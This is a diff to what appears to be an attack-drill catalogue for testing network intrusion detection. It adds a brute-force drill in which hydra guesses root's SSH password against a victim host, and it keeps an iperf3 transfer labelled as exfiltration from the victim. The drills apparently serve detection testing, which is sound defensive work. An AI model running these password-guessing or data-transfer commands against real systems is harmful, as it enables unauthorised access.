@@ -12,6 +12,8 @@ export interface Attack {
   /** The side that the command runs on: exfiltration leaves from the victim. */
   readonly side: Side;
   readonly command: readonly [string, ...string[]];
+  /** A server that the victim runs for it. */
+  readonly server?: 'sshd';
 }
 
 const [FIRST] = ATTACKERS;
@@ -58,10 +60,19 @@ export const ATTACKS: readonly Attack[] = [
     side: 'victim',
     command: ['iperf3', '-c', FIRST, '-p', String(DROP_PORT), '-b', '480M', '-t', '6'],
   },
+  {
+    name: 'brute-force',
+    what: "hydra guesses root's password by ssh, four guesses at once",
+    expected: 'brute_force_attack',
+    attacker: FIRST,
+    side: 'attacker',
+    command: ['hydra', '-I', '-l', 'root', '-x', '6:6:1', '-t', '4', `ssh://${VICTIM}`],
+    server: 'sshd',
+  },
 ];
 
 /** Drills that the design names and this release does not hold yet. */
-const LATER = ['qos', 'brute-force'];
+const LATER = ['qos'];
 
 /** @throws DrillError for a name that is no drill */
 export function attackNamed(name: string): Attack {
